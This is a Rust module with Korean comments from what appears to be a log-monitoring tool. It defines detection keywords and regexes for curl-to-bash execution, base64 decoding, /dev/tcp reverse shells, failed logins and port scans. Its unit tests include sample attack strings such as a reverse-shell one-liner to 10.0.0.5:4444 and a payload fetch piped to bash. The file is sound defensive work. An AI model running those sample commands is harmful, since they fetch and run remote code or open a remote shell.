//! 탐지 테이블 — 고정 키워드 목록 및 정규식 패턴
//!
//! 분류 테이블은 룰 술어와 분리된 선언적 데이터로 유지합니다.
//! 새 탐지 항목은 제어 흐름 변경 없이 이 테이블에 추가하면 됩니다.

use regex::Regex;

use crate::error::MonitorError;

/// 단순 키워드 히트에 사용되는 소문자 부분 문자열 목록
///
/// 메시지를 소문자로 접어 부분 문자열 포함 여부를 검사합니다.
pub const KEYWORDS: &[&str] = &[
    "exception",
    "traceback",
    "failed",
    "refused",
    "timeout",
    "unauthorized",
    "forbidden",
    "curl",
    "base64",
    "chmod",
    "/tmp",
    "reverse shell",
    "failed password",
    "portscan",
];

// --- 패턴 이름 상수 ---

/// curl 출력을 셸로 파이프하는 실행 패턴
pub const PATTERN_CURL_PIPE_BASH: &str = "curl_pipe_bash";
/// base64 디코드 호출
pub const PATTERN_BASE64_DECODE: &str = "base64_decode";
/// `/dev/tcp/IP/PORT` 리버스 셸 지표
pub const PATTERN_REVERSE_SHELL: &str = "reverse_shell";
/// 로그인 실패 ("failed password")
pub const PATTERN_FAILED_PASSWORD: &str = "failed_password";
/// 포트 스캔 / nmap 지표
pub const PATTERN_PORT_SCAN: &str = "port_scan";

/// 패턴 이름 → 정규식 원문 테이블 (대소문자 무시)
const PATTERN_TABLE: &[(&str, &str)] = &[
    (PATTERN_CURL_PIPE_BASH, r"(?i)curl\s+.+\|\s*bash"),
    (PATTERN_BASE64_DECODE, r"(?i)base64\s+-d|base64\s+--decode"),
    (
        PATTERN_REVERSE_SHELL,
        r"(?i)/dev/tcp/\d{1,3}(?:\.\d{1,3}){3}/\d+",
    ),
    (PATTERN_FAILED_PASSWORD, r"(?i)failed password"),
    (
        PATTERN_PORT_SCAN,
        r"(?i)portscan|multiple connection attempts|nmap",
    ),
];

/// 컴파일된 탐지 패턴 집합
///
/// 생성 시 한 번만 컴파일하여 매칭 시 재컴파일 오버헤드를 제거합니다.
#[derive(Debug, Clone)]
pub struct PatternSet {
    /// (패턴 이름, 컴파일된 정규식) 테이블 순서 유지
    patterns: Vec<(&'static str, Regex)>,
}

impl PatternSet {
    /// 고정 패턴 테이블을 컴파일합니다.
    pub fn compile() -> Result<Self, MonitorError> {
        let mut patterns = Vec::with_capacity(PATTERN_TABLE.len());
        for (name, pattern) in PATTERN_TABLE {
            let regex = Regex::new(pattern).map_err(|e| MonitorError::Pattern {
                name: (*name).to_owned(),
                reason: e.to_string(),
            })?;
            patterns.push((*name, regex));
        }
        Ok(Self { patterns })
    }

    /// (이름, 정규식) 쌍을 테이블 순서로 순회합니다.
    pub fn iter(&self) -> impl Iterator<Item = (&'static str, &Regex)> {
        self.patterns.iter().map(|(name, regex)| (*name, regex))
    }

    /// 패턴 이름 목록을 테이블 순서로 반환합니다.
    pub fn names(&self) -> impl Iterator<Item = &'static str> {
        self.patterns.iter().map(|(name, _)| *name)
    }

    /// 패턴 수를 반환합니다.
    pub fn len(&self) -> usize {
        self.patterns.len()
    }

    /// 패턴이 하나도 없는지 확인합니다.
    pub fn is_empty(&self) -> bool {
        self.patterns.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn matches(name: &str, input: &str) -> bool {
        let set = PatternSet::compile().unwrap();
        set.iter()
            .find(|(n, _)| *n == name)
            .map(|(_, re)| re.is_match(input))
            .unwrap()
    }

    #[test]
    fn compile_succeeds_with_all_patterns() {
        let set = PatternSet::compile().unwrap();
        assert_eq!(set.len(), 5);
        assert!(!set.is_empty());
    }

    #[test]
    fn names_follow_table_order() {
        let set = PatternSet::compile().unwrap();
        let names: Vec<&str> = set.names().collect();
        assert_eq!(
            names,
            vec![
                PATTERN_CURL_PIPE_BASH,
                PATTERN_BASE64_DECODE,
                PATTERN_REVERSE_SHELL,
                PATTERN_FAILED_PASSWORD,
                PATTERN_PORT_SCAN,
            ]
        );
    }

    #[test]
    fn curl_pipe_bash_matches() {
        assert!(matches(
            PATTERN_CURL_PIPE_BASH,
            "curl http://x/payload.sh | bash"
        ));
        assert!(matches(PATTERN_CURL_PIPE_BASH, "CURL -s http://a |bash"));
        assert!(!matches(PATTERN_CURL_PIPE_BASH, "curl http://x/health"));
    }

    #[test]
    fn base64_decode_matches_both_flags() {
        assert!(matches(PATTERN_BASE64_DECODE, "echo payload | base64 -d"));
        assert!(matches(PATTERN_BASE64_DECODE, "base64 --decode /tmp/x"));
        assert!(!matches(PATTERN_BASE64_DECODE, "base64 /etc/passwd"));
    }

    #[test]
    fn reverse_shell_matches_dev_tcp() {
        assert!(matches(
            PATTERN_REVERSE_SHELL,
            "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"
        ));
        assert!(!matches(PATTERN_REVERSE_SHELL, "/dev/tcp/not-an-ip/80"));
    }

    #[test]
    fn failed_password_is_case_insensitive() {
        assert!(matches(PATTERN_FAILED_PASSWORD, "Failed password for root"));
        assert!(matches(PATTERN_FAILED_PASSWORD, "FAILED PASSWORD for admin"));
        assert!(!matches(PATTERN_FAILED_PASSWORD, "password accepted"));
    }

    #[test]
    fn port_scan_matches_indicators() {
        assert!(matches(PATTERN_PORT_SCAN, "portscan detected from 1.2.3.4"));
        assert!(matches(PATTERN_PORT_SCAN, "Nmap scan report"));
        assert!(matches(
            PATTERN_PORT_SCAN,
            "multiple connection attempts observed"
        ));
        assert!(!matches(PATTERN_PORT_SCAN, "single connection established"));
    }

    #[test]
    fn keywords_are_lowercase() {
        for keyword in KEYWORDS {
            assert_eq!(*keyword, keyword.to_lowercase().as_str());
        }
    }

    #[test]
    fn keyword_table_contains_rule_inputs() {
        // 룰 술어가 참조하는 키는 모두 테이블에 존재해야 함
        for required in [
            "curl",
            "base64",
            "reverse shell",
            "failed password",
            "portscan",
            "refused",
            "timeout",
        ] {
            assert!(KEYWORDS.contains(&required), "missing keyword: {required}");
        }
    }
}
